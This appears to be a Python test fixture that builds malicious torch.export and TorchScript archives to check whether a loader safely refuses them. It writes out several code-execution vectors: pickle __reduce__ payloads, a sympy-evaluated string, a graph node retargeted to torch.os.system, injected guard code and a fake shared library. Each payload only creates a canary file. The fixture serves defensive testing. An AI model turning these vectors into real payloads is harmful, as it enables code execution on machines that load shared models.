"""Hostile ``torch.export`` archives: a real program saved by torch, then one member
rewritten so that loading it would run code that writes ``canary``."""

from __future__ import annotations

import json
import pickle
import zipfile
from pathlib import Path


class _Touch:
    """Unpickling this creates the file ``path`` (the attacker's code)."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self):
        return (open, (self.path, "w"))


def saved_program(path: Path) -> Path:
    import torch

    class Net(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.conv = torch.nn.Conv2d(3, 4, 3)

        def forward(self, x):
            return torch.relu(self.conv(x)).mean((2, 3))

    torch.manual_seed(0)
    program = torch.export.export(Net().eval(), (torch.randn(1, 3, 16, 16),))
    torch.export.save(program, str(path))
    return path


def _rewrite(path: Path, change) -> Path:
    """Copy the archive member by member, passing each (name, bytes) through ``change``."""
    with zipfile.ZipFile(path) as src:
        members = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as dst:
        for info, data in members:
            for name, new in change(info.filename, data):
                dst.writestr(name, new)
    return path


def pickled_weight(path: Path, canary: Path) -> Path:
    """The weights config flags ``conv.weight`` as a pickle, whose bytes build ``_Touch``."""
    saved_program(path)
    weight = _weight_file(path)

    def change(name: str, data: bytes):
        if name.endswith("data/weights/model_weights_config.json"):
            config = json.loads(data)
            meta = config["config"]["conv.weight"]
            meta["use_pickle"] = True
            yield name, json.dumps(config).encode()
        elif name.endswith("data/weights/" + weight):
            yield name, pickle.dumps(_Touch(canary), protocol=2)
        else:
            yield name, data

    return _rewrite(path, change)


def _weight_file(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        name = next(n for n in archive.namelist() if n.endswith("model_weights_config.json"))
        return json.loads(archive.read(name))["config"]["conv.weight"]["path_name"]


def pickled_sample_inputs(path: Path, canary: Path) -> Path:
    """No flag at all: torch unpickles sample inputs with weights_only=False when the safe loader refuses."""
    saved_program(path)
    return _rewrite(
        path,
        lambda name, data: [
            (name, pickle.dumps(_Touch(canary), protocol=2) if name.endswith("data/sample_inputs/model.pt") else data)
        ],
    )


def sympy_eval(path: Path, canary: Path) -> Path:
    """A symbolic shape string that sympy.sympify would evaluate as Python."""
    saved_program(path)
    code = f"__import__('builtins').open({str(canary)!r}, 'w')"

    def change(name: str, data: bytes):
        if name.endswith("models/model.json"):
            program = json.loads(data)
            program["range_constraints"] = {code: {"min_val": 0, "max_val": 4}}
            data = (
                json.dumps(program)
                .replace('"as_int": 16', json.dumps({"expr_str": code, "hint": None}).join(['"as_expr": ', ""]), 1)
                .encode()
            )
        yield name, data

    return _rewrite(path, change)


def torch_attribute_target(path: Path, canary: Path) -> Path:
    """A graph node whose function is ``torch.os.system``: any torch.* attribute path resolves."""
    saved_program(path)

    def change(name: str, data: bytes):
        if name.endswith("models/model.json"):
            data = data.replace(b'"torch.ops.aten.relu.default"', b'"torch.os.system"')
        yield name, data

    return _rewrite(path, change)


def guard_code(path: Path, canary: Path) -> Path:
    """Guard code is Python that torch compiles and runs before the program."""
    saved_program(path)

    def change(name: str, data: bytes):
        if name.endswith("models/model.json"):
            program = json.loads(data)
            program["guards_code"] = [f"open({str(canary)!r}, 'w') is None"]
            data = json.dumps(program).encode()
        yield name, data

    return _rewrite(path, change)


def aoti_library(path: Path, canary: Path) -> Path:
    """An AOTInductor folder: torch would dlopen the shared library in it."""
    saved_program(path)
    root = path.stem

    def change(name: str, data: bytes):
        yield name, data
        if name.endswith("archive_format"):
            yield f"{root}/data/aotinductor/model/model.so", b"\x7fELF"

    return _rewrite(path, change)


ATTACKS = {
    "pickled weight": pickled_weight,
    "pickled sample inputs": pickled_sample_inputs,
    "sympy eval": sympy_eval,
    "torch attribute target": torch_attribute_target,
    "guard code": guard_code,
    "aoti library": aoti_library,
}


def torchscript_pickle(path: Path, canary: Path) -> Path:
    """A real TorchScript archive whose data.pkl is replaced by a Python pickle of ``_Touch``:
    TorchScript's own unpickler resolves no Python globals, so it must not run."""
    import torch

    torch.jit.trace(torch.nn.Conv2d(3, 4, 3).eval(), torch.randn(1, 3, 8, 8)).save(str(path))
    return _rewrite(
        path,
        lambda name, data: [(name, pickle.dumps(_Touch(canary), protocol=2) if name.endswith("/data.pkl") else data)],
    )
